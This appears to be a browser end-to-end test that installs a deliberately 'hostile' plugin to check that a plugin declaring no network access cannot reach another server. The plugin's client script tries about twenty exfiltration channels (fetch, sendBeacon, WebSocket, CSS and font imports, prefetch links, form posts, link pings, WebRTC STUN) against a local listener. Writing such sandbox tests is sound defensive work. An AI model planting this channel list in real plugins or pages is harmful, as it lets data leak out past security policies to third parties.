/** An outside plugin with `network: []` can reach this server only, and does not run on the page where a password authorises code. */
import { createServer, type Server } from 'node:http'
import { packageFiles, zipOf } from '../support/outside-package.ts'
import { ADMIN_PASSWORD } from '../support/passwords.ts'
import { caller, installPackage } from './support/example-plugins.ts'
import { goTo } from './support/go-to.ts'
import { LEADS } from './support/lead-steps.ts'
import { expect, test } from './support/publishing.ts'

const PLUGINS = '/system/plugins'

/** Another server on this machine, which records all requests. */
const listener = async (): Promise<{ readonly url: string; readonly arrived: string[]; readonly server: Server }> => {
  const arrived: string[] = []
  const server = createServer((request, answer) => {
    arrived.push(`${request.method} ${request.url}`)
    answer.writeHead(200, { 'access-control-allow-origin': '*' }).end('x')
  })
  server.on('upgrade', (request, socket) => {
    arrived.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as { port: number }
  return { url: `http://127.0.0.1:${port}`, arrived, server }
}

/** Client part that tries every exfiltration channel that a policy can close, and reports when done. It runs on every page. */
const hostile = (to: string): string => `
const to = '${to}'
const add = (tag, attributes) => {
  const element = document.createElement(tag)
  Object.assign(element, attributes)
  document.body.append(element)
  return element
}
const attempt = work => { try { return work() } catch { return undefined } }
const ways = [
  () => add('img', { src: to + '/img' }),
  () => fetch(to + '/fetch', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {}),
  () => navigator.sendBeacon(to + '/beacon', 'x'),
  () => new WebSocket(to.replace('http', 'ws') + '/socket'),
  () => new EventSource(to + '/events'),
  () => { const request = new XMLHttpRequest(); request.open('GET', to + '/xhr'); request.send() },
  () => add('div', { style: 'background-image:url(' + to + '/css);width:9px;height:9px' }),
  () => add('style', { textContent: '@import url(' + to + '/import); @font-face { font-family: x; src: url(' + to + '/font) } body::after { font-family: x; content: "x" }' }),
  () => add('link', { rel: 'stylesheet', href: to + '/sheet' }),
  () => add('link', { rel: 'prefetch', href: to + '/prefetch' }),
  () => add('link', { rel: 'preload', as: 'image', href: to + '/preload' }),
  () => add('link', { rel: 'icon', href: to + '/icon' }),
  () => add('video', { src: to + '/video', poster: to + '/poster', preload: 'auto' }),
  () => add('audio', { src: to + '/audio', preload: 'auto' }),
  () => add('iframe', { src: to + '/frame' }),
  () => add('embed', { src: to + '/embed' }),
  () => add('object', { data: to + '/object' }),
  () => add('form', { action: to + '/form', method: 'post', target: 'elsewhere' }).submit(),
  () => { const link = add('a', { href: '#', ping: to + '/ping' }); link.click() },
  () => new Worker(to + '/worker'),
]
for (const way of ways) attempt(way)
const rtc = attempt(() => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + to.slice(7) }] }))
document.documentElement.dataset.hostile = rtc ? 'rtc' : 'done'
export default { id: 'hostile', widgets: { spy: { slot: 'topBar', order: 1, component: () => null } } }
`

test('a plugin that declares no network reaches no other server by any way that a page has', async ({ signIn, server }) => {
  test.setTimeout(120_000)
  const { url, arrived, server: other } = await listener()
  const page = await signIn('admin')
  const call = caller(page.request, server.url)
  const zip = await zipOf(
    packageFiles({
      manifest: {
        id: 'hostile',
        title: '间谍',
        version: '1.0.0',
        network: [],
        contributes: { widgets: { spy: { description: '什么也不显示。', slot: 'topBar' } } },
      },
      files: { 'client.js': hostile(url) },
    }),
  )
  await installPackage(call, { name: 'hostile.zip', mimeType: 'application/zip', buffer: zip })

  await page.goto(LEADS)
  await expect(page.locator('html')).toHaveAttribute('data-hostile', 'done')

  // The page with the password field is a document of its own, in which the plugin does not run.
  await goTo(page, PLUGINS)
  await expect(page.getByRole('button', { name: '移除“间谍”' })).toBeVisible()
  await expect(page.locator('html')).not.toHaveAttribute('data-hostile')
  await page.getByRole('button', { name: '移除“间谍”' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel('密码').fill(ADMIN_PASSWORD)
  await dialog.getByRole('button', { name: '移除', exact: true }).click()
  await expect(page.getByText('已移除“间谍”')).toBeVisible()
  // A request that the policy had allowed would have arrived by now.
  expect(arrived).toEqual([])
  other.close()
})
